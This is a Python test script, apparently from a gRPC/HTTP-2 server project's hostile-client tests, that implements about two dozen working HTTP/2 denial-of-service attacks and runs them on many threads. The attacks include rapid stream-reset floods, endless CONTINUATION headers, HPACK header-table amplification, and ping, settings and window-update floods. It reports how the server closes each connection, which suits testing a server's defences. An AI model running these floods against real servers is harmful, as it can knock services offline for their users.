"""Clients that cost a server more than they send. Each is a program, so that it takes no time from who watches:

    python3 tests/hostile/attacks.py NAME HOST:PORT [--connections N] [--again] [--seconds S] [--from ADDRESS]

Prints one line of JSON: what was sent, how many connections were made, and how many of them the server closed and why.
Only the standard library, only bytes that are made before they are needed.
"""

import argparse
import collections
import inspect
import itertools
import json
import select
import socket
import sys
import threading
import time

from frames import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, HEALTH, LARGEST_FRAME, PING, PREFACE,
                    PRIORITY, REFLECTION, RST_STREAM, SERVICE, SETTINGS, WINDOW_UPDATE, field, frame, generate_request,
                    integer, message, part, request_fields)

GENERATE = request_fields(SERVICE + "Generate")
CANCEL = (8).to_bytes(4, "big")
PIECE = 65536  # bytes that are sent at a time
MIB = 1 << 20


def opened(stream, flags=END_HEADERS):
    return frame(HEADERS, flags, stream, GENERATE)


def reset(stream):
    return frame(RST_STREAM, 0, stream, CANCEL)


def streams():
    return itertools.count(1, 2)


def repeated(piece, times=1 << 20):
    """`piece` again and again, many at a time."""
    at_once = max(1, PIECE // len(piece))
    return itertools.repeat(piece * at_once, times // at_once)


# Each yields what is sent on one connection after the preface, to its end if the server lets it.


def reset_streams():
    """Opens 100,000 streams and resets each at once."""
    return (opened(stream) + reset(stream) for stream in itertools.islice(streams(), 100_000))


def reset_requests():
    """38 MiB of whole requests, each cancelled at once."""
    data = message(generate_request(b"word " * 60))
    size = len(opened(1) + frame(DATA, END_STREAM, 1, data) + reset(1))
    return (opened(stream) + frame(DATA, END_STREAM, stream, data) + reset(stream)
            for stream in itertools.islice(streams(), 38 * MIB // size))


def made_to_reset():
    """Makes the server reset 100,000 streams: a window that grows by nothing is a stream's error."""
    return (opened(stream) + frame(WINDOW_UPDATE, 0, stream, bytes(4))
            for stream in itertools.islice(streams(), 100_000))


def open_streams():
    """Opens 20,000 streams and leaves them so."""
    return (opened(stream) for stream in itertools.islice(streams(), 20_000))


def open_health_streams():
    """20,000 watches of the server's health."""
    watch = frame(DATA, END_STREAM, 1, message(b""))
    block = request_fields(HEALTH + "Watch")
    return (frame(HEADERS, END_HEADERS, stream, block) + watch[:5] + stream.to_bytes(4, "big") + watch[9:]
            for stream in itertools.islice(streams(), 20_000))


def open_reflection():
    """20,000 streams of reflection, each with a question and no end."""
    block = request_fields(REFLECTION)
    return (frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, message(part(7, b"")))
            for stream in itertools.islice(streams(), 20_000))


def refused_streams():
    """Opens 4,900 streams by nine bytes each. Where their address has no room the server answers them by much more."""
    yield frame(SETTINGS, ACK, 0)
    yield from (frame(HEADERS, END_HEADERS, stream, b"") for stream in itertools.islice(streams(), 4900))


def refused_messages():
    """100,000 messages that are refused by their first bytes, for being compressed."""
    return (opened(stream) + frame(DATA, 0, stream, b"\1\0\0\0\5") for stream in itertools.islice(streams(), 100_000))


def further_messages():
    """Watches of the server's health that go on asking: more messages than the method takes."""
    block = request_fields(HEALTH + "Watch")
    watched = list(itertools.islice(streams(), 1000))
    yield from (frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, message(b"")) for stream in watched)
    for _ in range(40):
        yield from (frame(DATA, 0, stream, message(b"x" * 8000)) for stream in watched)


def ended_data():
    """A watch whose request ends a million times."""
    yield frame(HEADERS, END_HEADERS, 1, request_fields(HEALTH + "Watch")) + frame(DATA, 0, 1, message(b""))
    yield from repeated(frame(DATA, END_STREAM, 1))


def continuation():
    """Headers that never end, 336 MiB of small fields."""
    one = field(b"a", b"b")
    block = one * (LARGEST_FRAME // len(one))
    yield frame(HEADERS, 0, 1, GENERATE)
    yield from repeated(frame(CONTINUATION, 0, 1, block), 336 * MIB // LARGEST_FRAME)


def empty_continuation():
    """Headers that never end and grow by nothing."""
    yield frame(HEADERS, 0, 1, GENERATE)
    yield from repeated(frame(CONTINUATION, 0, 1))


def compressed_headers():
    """Headers of a byte each that stand for 4,000: one entry of the table, referred to again and again."""
    name = b"x-bomb"
    entry = b"\x40" + integer(len(name), 7) + name + integer(4000, 7) + b"x" * 4000
    yield frame(HEADERS, END_HEADERS, 1, GENERATE + entry)
    for stream in itertools.islice(itertools.count(3, 2), 2000):
        yield frame(HEADERS, END_HEADERS, stream, GENERATE + b"\xbe" * 8000)


def many_headers():
    """20,000 streams, each with 16 KiB of headers."""
    block = GENERATE + b"".join(field(b"x-%d" % number, b"y" * 1000) for number in range(15))
    return (frame(HEADERS, END_HEADERS, stream, block) for stream in itertools.islice(streams(), 20_000))


def ping():
    """Pings whose answers nobody reads."""
    return repeated(frame(PING, 0, 0, b"flooding"))


def settings():
    """Settings whose acknowledgements nobody reads."""
    return repeated(frame(SETTINGS, 0, 0))


def acknowledgements():
    """Acknowledges settings and pings that nobody sent."""
    return repeated(frame(SETTINGS, ACK, 0) + frame(PING, ACK, 0, b"unasked!"))


def empty_data():
    """A message of no bytes in a million frames."""
    yield opened(1)
    yield from repeated(frame(DATA, 0, 1))


def padding():
    """Frames of nothing but padding."""
    yield opened(1)
    yield from repeated(frame(DATA, 8, 1, b"\xff" + bytes(255)))


def priority():
    """Priorities of streams that do not exist."""
    return repeated(b"".join(frame(PRIORITY, 0, stream, (stream + 2).to_bytes(4, "big") + b"\x10")
                             for stream in range(1, 8001, 2)), 2_000)


def window():
    """Window updates, a byte each."""
    return repeated(frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")))


def unknown():
    """Frames of a kind that nobody knows, which must be ignored."""
    return repeated(frame(0xbb, 0, 0, b"x" * 100))


def resets():
    """Resets of a stream that is long gone."""
    yield opened(1)
    yield from repeated(reset(1))


ATTACKS = {made.__name__: made for made in (
    reset_streams, reset_requests, made_to_reset, open_streams, open_health_streams, open_reflection, refused_streams,
    refused_messages, further_messages, ended_data, continuation, empty_continuation, compressed_headers, many_headers,
    ping, settings, acknowledgements, empty_data, padding, priority, window, unknown, resets)}
DEAF = {reset_streams, refused_streams, continuation, ping, settings}  # these read nothing, so that what the server answers piles up


def pieces(sent):
    """What is sent, cut where it comes in trifles so that each system call carries much."""
    gathered = bytearray()
    for some in sent:
        gathered += some
        if len(gathered) >= PIECE:
            yield bytes(gathered)
            gathered.clear()
    yield bytes(gathered)


class Connection:
    """One attack on one connection, to its end, the server's patience or `deadline`."""

    def __init__(self, target, source, deadline, deaf):
        host, port = target.rsplit(":", 1)
        self.deadline, self.deaf = deadline, deaf
        self.sent, self.closed, self.reason = 0, False, None  # the error of the server's GOAWAY
        self.received = b""
        try:
            self.socket = socket.create_connection((host, int(port)), timeout=max(deadline - time.monotonic(), 0.1),
                                                   source_address=(source, 0))
            self.socket.setblocking(False)
        except OSError:
            self.socket, self.closed = None, True

    def run(self, attack):
        if self.socket is None:
            return
        with self.socket:
            for piece in pieces(itertools.chain([PREFACE + frame(SETTINGS, 0, 0)], attack())):
                if not self.send(piece):
                    break
            self.deaf = False  # the server's last words may still lie here
            while not self.closed and time.monotonic() < self.deadline:
                self.wait([], 0.2)

    def send(self, data):
        """Whether the server takes more, and there is time left."""
        view = memoryview(data)
        while view and not self.closed and time.monotonic() < self.deadline:
            try:
                done = self.socket.send(view)
                view = view[done:]
                self.sent += done
            except BlockingIOError:
                self.wait([self.socket], 0.2)
            except OSError:
                return False
            self.wait([], 0)
        return not self.closed and not view

    def wait(self, writers, seconds):
        """Until there is something to read, or to write for `writers`; reads it."""
        readable, _, _ = select.select([] if self.deaf else [self.socket], writers, [], seconds)
        if not readable:
            return
        try:
            data = self.socket.recv(1 << 20)
        except OSError:
            data = b""
        self.closed = data == b""
        self.look_at(data)

    def look_at(self, data):
        """Walks over the frames that came, looking for GOAWAY."""
        data = self.received + data
        at = 0
        while at + 9 <= len(data) and (end := at + 9 + int.from_bytes(data[at:at + 3], "big")) <= len(data):
            if data[at + 3] == GOAWAY:
                self.reason = int.from_bytes(data[at + 13:at + 17], "big")
            at = end
        self.received = data[at:]


def run(name, target, connections=1, again=False, seconds=5.0, source="127.0.0.1"):
    """The attack on so many connections at once, each made anew when it was closed if `again`; name `all` takes another
    attack on each."""
    chosen = itertools.cycle(ATTACKS.values() if name == "all" else [ATTACKS[name]])
    deadline = time.monotonic() + seconds
    report = collections.Counter()
    reasons = collections.Counter()
    lock = threading.Lock()

    def attack_on():
        while True:
            with lock:
                attack = next(chosen)
            connection = Connection(target, source, deadline, attack in DEAF)
            connection.run(attack)
            with lock:
                report.update(connections=1, sent=connection.sent, closed=connection.closed)
                reasons[str(connection.reason)] += connection.closed
            if not again or time.monotonic() >= deadline:
                return

    begin = time.monotonic()
    threads = [threading.Thread(target=attack_on) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return dict(report, reasons=dict(reasons), seconds=round(time.monotonic() - begin, 3))


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=["all", *ATTACKS],
                        help="; ".join(f"{name}: {inspect.getdoc(made)}" for name, made in ATTACKS.items()))
    parser.add_argument("target")
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--again", action="store_true", help="connects anew when it was closed")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--from", dest="source", default="127.0.0.1", help="the address to connect from")
    args = parser.parse_args()
    print(json.dumps(run(**vars(args))))


if __name__ == "__main__":
    sys.exit(main())
